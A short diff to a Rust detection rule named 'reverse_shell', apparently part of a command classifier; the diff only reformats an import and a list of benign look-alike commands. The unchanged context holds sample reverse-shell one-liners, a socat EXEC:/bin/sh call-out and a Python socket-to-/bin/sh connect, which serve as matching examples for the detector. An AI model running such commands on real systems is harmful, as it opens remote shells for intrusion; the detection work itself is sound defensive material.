@@ -1,6 +1,6 @@
 //! `reverse_shell`: shells that listen or call out.
 
-use super::{Rule};
+use super::Rule;
 use crate::effect::{Effect, Kind};
 
 pub(super) const RULE: Rule = Rule {
@@ -13,12 +13,7 @@ pub(super) const RULE: Rule = Rule {
         "socat TCP:h:9 EXEC:/bin/sh",
         "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
     ],
-    spares: &[
-        "nc -zv host 22",
-        "ssh host",
-        "telnet localhost 25",
-        "python3 -m http.server",
-    ],
+    spares: &["nc -zv host 22", "ssh host", "telnet localhost 25", "python3 -m http.server"],
     ..Rule::new()
 };
 
